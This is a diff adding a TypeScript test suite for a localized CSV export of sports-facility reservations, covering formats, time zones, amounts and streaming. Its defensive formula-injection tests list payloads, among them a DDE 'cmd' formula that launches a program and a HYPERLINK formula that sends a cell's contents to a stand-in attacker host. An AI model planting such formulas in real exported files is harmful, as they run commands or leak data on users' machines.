@@ -1,0 +1,233 @@
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+import type { Language } from "#contracts/scalars.ts";
+import { parseCsv } from "#tests/api/facilities/exports/csv-reader.ts";
+import type { ReservationRow } from "../columns.ts";
+import { amount, csvFile, harmless } from "./csv.ts";
+import { exportColumns, exportTexts } from "./csv-texts.ts";
+
+const tennis = "0b8c1f6e-6f0c-4d0e-9a52-9c2a2f3d7a10";
+const sports = new Map([[tennis, "Tennis"]]);
+
+const row = (changes: Partial<ReservationRow> = {}): ReservationRow => ({
+  id: "8d1f7a5e-59a3-4a3c-8a34-2b9a1a4e7c11",
+  locationId: "2f6f0f0a-0f4b-4b5e-8f4f-1d8a4c9e5b21",
+  locationName: "Centro Sportivo Nord",
+  timeZone: "Europe/Rome",
+  fieldId: "5c9b6c1e-9d3c-4d49-8c3a-0a6f1b2c3d31",
+  fieldName: "Campo 1",
+  sportId: tennis,
+  startAt: new Date("2026-03-05T17:00:00Z"),
+  endAt: new Date("2026-03-05T18:30:00Z"),
+  status: "confirmed",
+  canceledBy: null,
+  athleteId: null,
+  holderName: "Rossi Mario",
+  holderPhone: "333 1234567",
+  notes: "",
+  currency: "eur",
+  total: 123_450,
+  discounted: 100_005,
+  paid: 5,
+  toPay: 100_000,
+  paymentStatus: "partiallyPaid",
+  createdAt: new Date("2026-02-28T23:30:00Z"),
+  ...changes,
+});
+
+async function* batchesOf(...batches: ReservationRow[][]) {
+  yield* batches;
+}
+
+async function write(rows: ReservationRow[], language: Language = "it"): Promise<string> {
+  const pieces: Buffer[] = [];
+  for await (const piece of csvFile(batchesOf(rows), language, sports)) pieces.push(piece);
+  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(Buffer.concat(pieces));
+}
+
+/** The file's rows as records, by the names of the columns. */
+async function read(rows: ReservationRow[], language: Language = "it"): Promise<Record<string, string>[]> {
+  const text = await write(rows, language);
+  const [, ...lines] = parseCsv(text.slice(1), exportTexts[language].separator);
+  return lines.map((cells) => Object.fromEntries(exportColumns.map((column, i) => [column, cells[i] ?? ""])));
+}
+
+describe("file", () => {
+  test("in Italian: byte order mark, semicolons, decimal commas, CRLF", async () => {
+    expect(await write([row()])).toBe(
+      "\uFEFFData;Inizio;Fine;Struttura;Campo;Sport;Intestatario;Telefono;Stato;Stato pagamento;Valuta;Prezzo di listino;Prezzo richiesto;Pagato;Da pagare;Note;Creata il;Codice\r\n" +
+        '05/03/2026;18:00;19:30;Centro Sportivo Nord;Campo 1;Tennis;Rossi Mario;333 1234567;Confermata;Pagata in parte;EUR;"1234,50";"1000,05";"0,05";"1000,00";;01/03/2026 00:30;8d1f7a5e-59a3-4a3c-8a34-2b9a1a4e7c11\r\n',
+    );
+  });
+
+  test("in English: commas, decimal points", async () => {
+    const [header, line] = (await write([row()], "en")).split("\r\n");
+    expect(header).toMatch(/^\uFEFFDate,Start,End,/u);
+    expect(line).toContain(",Confirmed,Partially paid,EUR,1234.50,1000.05,0.05,1000.00,");
+  });
+
+  test("in Spanish: semicolons, decimal commas", async () => {
+    const [header, line] = (await write([row({ status: "canceled", canceledBy: "user" })], "es")).split("\r\n");
+    expect(header).toMatch(/^\uFEFFFecha;Inicio;Fin;/u);
+    expect(line).toContain(';Cancelada por el usuario;Pagada en parte;EUR;"1234,50";');
+  });
+
+  test("has only the header when nothing matches", async () => {
+    expect((await write([])).split("\r\n")).toHaveLength(2);
+  });
+
+  test.each(["it", "en", "es"] as const)("says every status in words (%s)", async (language) => {
+    const texts = exportTexts[language];
+    const records = await read(
+      [
+        row({ status: "pending", paymentStatus: "unpaid" }),
+        row({ status: "confirmed", paymentStatus: "paid" }),
+        row({ status: "canceled", canceledBy: "user" }),
+        row({ status: "canceled", canceledBy: "manager" }),
+      ],
+      language,
+    );
+    expect(records.map((record) => record.status)).toEqual([
+      texts.status.pending,
+      texts.status.confirmed,
+      texts.canceledBy.user,
+      texts.canceledBy.manager,
+    ]);
+    expect(records.slice(0, 2).map((record) => record.paymentStatus)).toEqual([
+      texts.paymentStatus.unpaid,
+      texts.paymentStatus.paid,
+    ]);
+  });
+});
+
+describe("times", () => {
+  test("are those of the location, whatever the season and the zone", async () => {
+    const [summer, newYork, night] = await read([
+      row({ startAt: new Date("2026-07-01T16:00:00Z"), endAt: new Date("2026-07-01T17:00:00Z") }),
+      row({ timeZone: "America/New_York" }),
+      row({ startAt: new Date("2026-03-05T21:00:00Z"), endAt: new Date("2026-03-05T23:00:00Z") }),
+    ]);
+    expect([summer?.date, summer?.startAt, summer?.endAt]).toEqual(["01/07/2026", "18:00", "19:00"]);
+    expect([newYork?.startAt, newYork?.endAt]).toEqual(["12:00", "13:30"]);
+    // The midnight that ends the day.
+    expect([night?.date, night?.startAt, night?.endAt]).toEqual(["05/03/2026", "22:00", "24:00"]);
+  });
+
+  test("change with the clocks, to the minute", async () => {
+    const records = await read([
+      row({ startAt: new Date("2026-03-29T00:45:00Z"), endAt: new Date("2026-03-29T01:15:00Z") }),
+      row({ startAt: new Date("2026-10-25T00:45:00Z"), endAt: new Date("2026-10-25T01:15:00Z") }),
+    ]);
+    expect(records.map(({ startAt, endAt }) => [startAt, endAt])).toEqual([
+      ["01:45", "03:15"],
+      ["02:45", "02:15"],
+    ]);
+  });
+});
+
+describe("amounts", () => {
+  test.each([
+    [0, "0,00"],
+    [5, "0,05"],
+    [100, "1,00"],
+    [-1234, "-12,34"],
+    [1_000_000_000, "10000000,00"],
+  ])("%i is %s", (cents, text) => expect(amount(cents, ",")).toBe(text));
+
+  test("read as a number, are what they were", () => {
+    fc.assert(
+      fc.property(fc.integer({ min: -2_000_000_000, max: 2_000_000_000 }), (cents) => {
+        expect(Math.round(Number(amount(cents, ".")) * 100)).toBe(cents + 0);
+      }),
+    );
+  });
+});
+
+const nasty = [
+  "=1+1",
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?x="&A1;"click")',
+  "+39 333 1234567",
+  "-2+3",
+  "@SUM(A1:A2)",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  "  =1+1",
+  "\u00a0=1+1",
+  "\u200b=1+1",
+  "\ufeff=1+1",
+  "\u0000=1+1",
+  "＝1+1",
+  "＋1",
+  "－1",
+  "＠SUM(A1)",
+  "﹦1+1",
+  "﹣1",
+  "−1",
+  "\ttext",
+];
+const tame = [
+  "",
+  "Rossi Mario",
+  'O\'Brien; "Pat"',
+  "a=b",
+  "5-3",
+  "mario@club.example",
+  "两个\nrighe",
+  "😀 = 1",
+  "'quoted",
+  " x",
+];
+
+describe("formulas", () => {
+  test.each(nasty)("%j is written as text", (text) => expect(harmless(text)).toBe(`'${text}`));
+  test.each(tame)("%j stays as it is", (text) => expect(harmless(text)).toBe(text));
+
+  test("no cell of any text runs, and what was written is read again", async () => {
+    const separators = fc.constantFrom(";", ",", '"', "\r\n", "\n", "\r", "\t", "=", "+", "-", "@", "＝", "'", " ");
+    const text = fc.oneof(
+      fc.string({ unit: "binary" }),
+      fc.array(fc.oneof(separators, fc.string({ unit: "grapheme" })), { maxLength: 8 }).map((parts) => parts.join("")),
+      fc.constantFrom(...nasty, ...tame),
+    );
+    const language = fc.constantFrom<Language>("it", "en", "es");
+    await fc.assert(
+      fc.asyncProperty(text, text, text, language, async (holderName, notes, fieldName, chosen) => {
+        const clean = (value: string) => value.toWellFormed();
+        const written = row({ holderName: clean(holderName), notes: clean(notes), fieldName: clean(fieldName) });
+        const text = await write([written, row()], chosen);
+        const cells = parseCsv(text.slice(1), exportTexts[chosen].separator);
+        expect(cells.map((line) => line.length)).toEqual([18, 18, 18]);
+        const [, first = []] = cells;
+        for (const cell of first) expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+@\-\uFF1D\uFF0B\uFF0D\uFF20]/u);
+        expect([first[6], first[15], first[4]]).toEqual(
+          [written.holderName, written.notes, written.fieldName].map(harmless),
+        );
+        expect([first[11], first[14]]).toEqual([
+          amount(written.total, exportTexts[chosen].decimal),
+          amount(written.toPay, exportTexts[chosen].decimal),
+        ]);
+      }),
+      { numRuns: 300 },
+    );
+  });
+});
+
+test("reads a batch only when the piece before it was taken, so that memory stays bounded", async () => {
+  let asked = 0;
+  async function* endless() {
+    for (;;) {
+      asked += 1;
+      yield [row()];
+    }
+  }
+  const pieces = csvFile(endless(), "it", sports);
+  await pieces.next();
+  expect(asked).toBe(0);
+  for (let taken = 1; taken <= 5; taken += 1) {
+    await pieces.next();
+    expect(asked).toBe(taken);
+  }
+  await pieces.return(undefined);
+});
